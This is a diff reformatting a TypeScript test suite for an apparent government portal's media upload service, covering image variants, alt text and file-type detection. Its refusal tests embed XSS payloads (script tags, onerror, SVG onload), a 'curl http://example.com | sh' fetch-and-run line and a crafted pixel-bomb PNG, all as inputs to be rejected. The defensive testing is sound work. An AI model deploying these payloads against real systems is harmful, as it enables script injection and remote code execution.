@@ -30,9 +30,15 @@ beforeAll(async () => {
   handle = await createTestDatabase();
   storage = createMemoryStorage();
   deps = { db: handle.db, storage };
-  const sites = await sql<{ id: number }>`insert into sites (code, kind, name_vi, name_en) values ('so-a', 'portal', 'Sở A', 'Department A'), ('so-b', 'portal', 'Sở B', 'Department B') returning id`.execute(handle.db);
+  const sites = await sql<{
+    id: number;
+  }>`insert into sites (code, kind, name_vi, name_en) values ('so-a', 'portal', 'Sở A', 'Department A'), ('so-b', 'portal', 'Sở B', 'Department B') returning id`.execute(
+    handle.db,
+  );
   [siteA, siteB] = sites.rows.map((r) => r.id) as [number, number];
-  const account = await sql<{ id: number }>`insert into accounts (email, name, phone, unit, password_hash) values ('bientap@so-a.example', 'Biên tập', '', '', 'x') returning id`.execute(handle.db);
+  const account = await sql<{
+    id: number;
+  }>`insert into accounts (email, name, phone, unit, password_hash) values ('bientap@so-a.example', 'Biên tập', '', '', 'x') returning id`.execute(handle.db);
   accountId = account.rows[0]!.id;
 });
 afterAll(async () => {
@@ -46,7 +52,10 @@ const editor = () => person('board_member', siteA);
 const system: Actor = { kind: 'system', label: 'test' };
 
 async function rowCount(): Promise<number> {
-  const r = await handle.db.selectFrom('media').select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow();
+  const r = await handle.db
+    .selectFrom('media')
+    .select((eb) => eb.fn.countAll<number>().as('n'))
+    .executeTakeFirstOrThrow();
   return Number(r.n);
 }
 
@@ -81,8 +90,22 @@ describe('images', () => {
       .jpeg()
       .withMetadata({ orientation: 6, exif: { IFD0: { Copyright: 'Bí mật', Make: 'Camera' } } })
       .toBuffer();
-    const m = await service.uploadMedia(deps, editor(), siteA, { data: jpeg, originalName: 'C:\\fakepath\\Ảnh hội nghị.JPG', alt: '  Toàn cảnh hội nghị  ', caption: 'Hội nghị tổng kết năm 2026' });
-    expect(m).toMatchObject({ kind: 'image', mime: 'image/jpeg', originalName: 'Ảnh hội nghị.JPG', downloadName: 'Ảnh hội nghị.JPG', alt: 'Toàn cảnh hội nghị', width: 1200, height: 2000, uploadedBy: accountId });
+    const m = await service.uploadMedia(deps, editor(), siteA, {
+      data: jpeg,
+      originalName: 'C:\\fakepath\\Ảnh hội nghị.JPG',
+      alt: '  Toàn cảnh hội nghị  ',
+      caption: 'Hội nghị tổng kết năm 2026',
+    });
+    expect(m).toMatchObject({
+      kind: 'image',
+      mime: 'image/jpeg',
+      originalName: 'Ảnh hội nghị.JPG',
+      downloadName: 'Ảnh hội nghị.JPG',
+      alt: 'Toàn cảnh hội nghị',
+      width: 1200,
+      height: 2000,
+      uploadedBy: accountId,
+    });
     expect(m.variants.map((v) => v.width)).toEqual([320, 640, 1024, 1200]);
 
     const row = await handle.db.selectFrom('media').selectAll().where('id', '=', m.id).executeTakeFirstOrThrow();
@@ -122,7 +145,10 @@ describe('images', () => {
     for (const [width, expected] of cases) {
       expect(service.variantWidths(width)).toEqual(expected);
       const m = await service.uploadMedia(deps, editor(), siteA, { data: await image(width, 100), originalName: `anh-${width}.png`, alt: 'Ô màu xanh' });
-      expect(m.variants.map((v) => v.width), String(width)).toEqual(expected);
+      expect(
+        m.variants.map((v) => v.width),
+        String(width),
+      ).toEqual(expected);
       expect(m.width).toBe(width);
       expect(m.mime).toBe('image/png');
     }
@@ -131,8 +157,13 @@ describe('images', () => {
   it('takes WebP and GIF, and keeps the frames of an animated GIF', async () => {
     const webp = await service.uploadMedia(deps, editor(), siteA, { data: await image(700, 350, 'webp'), originalName: 'anh.webp', alt: 'Ảnh WebP' });
     expect(webp).toMatchObject({ mime: 'image/webp', width: 700, height: 350 });
-    const frame = (colour: string) => sharp({ create: { width: 400, height: 200, channels: 4, background: colour } }).png().toBuffer();
-    const gif = await sharp([await frame('#f00'), await frame('#00f')], { join: { animated: true } }).gif().toBuffer();
+    const frame = (colour: string) =>
+      sharp({ create: { width: 400, height: 200, channels: 4, background: colour } })
+        .png()
+        .toBuffer();
+    const gif = await sharp([await frame('#f00'), await frame('#00f')], { join: { animated: true } })
+      .gif()
+      .toBuffer();
     const m = await service.uploadMedia(deps, editor(), siteA, { data: gif, originalName: 'hoat-hinh.gif', alt: 'Hình động hai màu' });
     expect(m).toMatchObject({ mime: 'image/gif', width: 400, height: 200 });
     expect(m.variants.map((v) => [v.width, v.height])).toEqual([
@@ -150,12 +181,19 @@ describe('images', () => {
     expect(err.details.map((d) => d.field)).toEqual(['alt']);
     await expectRefused({ data: png, originalName: 'anh.png', alt: '   ' }, 'media.alt_required');
     await expectRefused({ data: png, originalName: 'anh.png', alt: 'x'.repeat(service.ALT_MAX + 1) }, 'media.invalid', /tối đa/);
-    await expect(service.uploadMedia(deps, editor(), siteA, { data: files.pdfFile(), originalName: 'van-ban.pdf' })).resolves.toMatchObject({ kind: 'document', alt: '' });
+    await expect(service.uploadMedia(deps, editor(), siteA, { data: files.pdfFile(), originalName: 'van-ban.pdf' })).resolves.toMatchObject({
+      kind: 'document',
+      alt: '',
+    });
   });
 
   it('refuses broken images and images with too many pixels (before decoding them)', async () => {
     const png = await image(400, 300);
-    await expectRefused({ data: Buffer.concat([png.subarray(0, 60), Buffer.alloc(200)]), originalName: 'hong.png', alt: 'Ảnh hỏng' }, 'media.bad_image', /Không đọc được ảnh/);
+    await expectRefused(
+      { data: Buffer.concat([png.subarray(0, 60), Buffer.alloc(200)]), originalName: 'hong.png', alt: 'Ảnh hỏng' },
+      'media.bad_image',
+      /Không đọc được ảnh/,
+    );
     const chunk = (type: string, data: Buffer) => {
       const len = Buffer.alloc(4);
       len.writeUInt32BE(data.length);
@@ -168,7 +206,12 @@ describe('images', () => {
     ihdr.writeUInt32BE(20000, 0);
     ihdr.writeUInt32BE(20000, 4);
     ihdr[8] = 8;
-    const bomb = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', deflateSync(Buffer.alloc(20001 * 4))), chunk('IEND', Buffer.alloc(0))]);
+    const bomb = Buffer.concat([
+      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
+      chunk('IHDR', ihdr),
+      chunk('IDAT', deflateSync(Buffer.alloc(20001 * 4))),
+      chunk('IEND', Buffer.alloc(0)),
+    ]);
     await expectRefused({ data: bomb, originalName: 'bom.png', alt: 'Bom giải nén' }, 'media.too_many_pixels', /quá nhiều điểm ảnh/);
   });
 });
@@ -214,13 +257,37 @@ describe('types by content', () => {
     await expectRefused({ data: files.elfFile(), originalName: 'bao-cao.pdf' }, 'media.disguised', /Linux/);
     await expectRefused({ data: files.exeFile(), originalName: 'setup.exe' }, 'media.dangerous_type', /chương trình chạy được/);
     await expectRefused({ data: files.compoundFile([{ name: 'x' }], files.MSI_CLSID), originalName: 'cai-dat.doc' }, 'media.disguised', /gói cài đặt Windows/);
-    await expectRefused({ data: Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>'), originalName: 'trang.html' }, 'media.dangerous_type', /trang web \(HTML\)/);
-    await expectRefused({ data: Buffer.from('<p>xin chào</p><img src=x onerror=alert(1)>'), originalName: 'anh.png', alt: 'x' }, 'media.disguised', /trang web \(HTML\)/);
-    await expectRefused({ data: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>'), originalName: 'logo.svg', alt: 'Logo' }, 'media.dangerous_type', /SVG/);
-    await expectRefused({ data: Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), originalName: 'logo.png', alt: 'Logo' }, 'media.disguised', /SVG/);
+    await expectRefused(
+      { data: Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>'), originalName: 'trang.html' },
+      'media.dangerous_type',
+      /trang web \(HTML\)/,
+    );
+    await expectRefused(
+      { data: Buffer.from('<p>xin chào</p><img src=x onerror=alert(1)>'), originalName: 'anh.png', alt: 'x' },
+      'media.disguised',
+      /trang web \(HTML\)/,
+    );
+    await expectRefused(
+      { data: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>'), originalName: 'logo.svg', alt: 'Logo' },
+      'media.dangerous_type',
+      /SVG/,
+    );
+    await expectRefused(
+      {
+        data: Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
+        originalName: 'logo.png',
+        alt: 'Logo',
+      },
+      'media.disguised',
+      /SVG/,
+    );
     await expectRefused({ data: Buffer.from('#!/bin/sh\ncurl http://example.com | sh\n'), originalName: 'cai-dat.sh' }, 'media.dangerous_type', /kịch bản/);
     await expectRefused({ data: files.ooxmlFile('docm'), originalName: 'mau.docx' }, 'media.disguised', /macro/);
-    await expectRefused({ data: files.compoundFile([{ name: 'WordDocument' }, { name: 'Macros', storage: true }]), originalName: 'mau.doc' }, 'media.disguised', /macro/);
+    await expectRefused(
+      { data: files.compoundFile([{ name: 'WordDocument' }, { name: 'Macros', storage: true }]), originalName: 'mau.doc' },
+      'media.disguised',
+      /macro/,
+    );
     await expectRefused({ data: files.storedZip([{ name: 'a.txt', data: 'x' }]), originalName: 'tai-lieu.zip' }, 'media.type_refused', /giải nén/);
     await expectRefused({ data: files.compoundFile([{ name: 'Khac' }]), originalName: 'la.bin' }, 'media.type_refused');
     await expectRefused({ data: Buffer.from('Chỉ là văn bản thuần.'), originalName: 'ghi-chu.txt' }, 'media.unknown_type', /Không nhận ra loại/);
@@ -297,17 +364,22 @@ describe('changes', () => {
     const before = storage.files.size;
     const rows = await rowCount();
     // The system may upload anywhere; a site that does not exist fails the insert.
-    await expect(service.uploadMedia(deps, system, 99_999_999, { data: await image(700, 400), originalName: 'mo-coi.png', alt: 'Mồ côi' })).rejects.toBeDefined();
+    await expect(
+      service.uploadMedia(deps, system, 99_999_999, { data: await image(700, 400), originalName: 'mo-coi.png', alt: 'Mồ côi' }),
+    ).rejects.toBeDefined();
     expect(storage.files.size).toBe(before);
     expect(await rowCount()).toBe(rows);
   });
 
   it('lists a site newest first, a page at a time', async () => {
-    const mine = await sql<{ id: number }>`insert into sites (code, kind, name_vi, name_en) values ('so-c', 'portal', 'Sở C', 'Department C') returning id`.execute(handle.db);
+    const mine = await sql<{
+      id: number;
+    }>`insert into sites (code, kind, name_vi, name_en) values ('so-c', 'portal', 'Sở C', 'Department C') returning id`.execute(handle.db);
     const siteC = mine.rows[0]!.id;
     const c = person('contributor', siteC);
     const ids: number[] = [];
-    for (let i = 1; i <= 5; i++) ids.push((await service.uploadMedia(deps, c, siteC, { data: files.pdfFile(`Van ban ${i}`), originalName: `van-ban-${i}.pdf` })).id);
+    for (let i = 1; i <= 5; i++)
+      ids.push((await service.uploadMedia(deps, c, siteC, { data: files.pdfFile(`Van ban ${i}`), originalName: `van-ban-${i}.pdf` })).id);
     const first = await service.listMedia(deps, c, siteC, 1, 2);
     expect(first).toMatchObject({ total: 5, pages: 3, page: 1, pageSize: 2 });
     expect(first.items.map((m) => m.id)).toEqual([ids[4], ids[3]]);
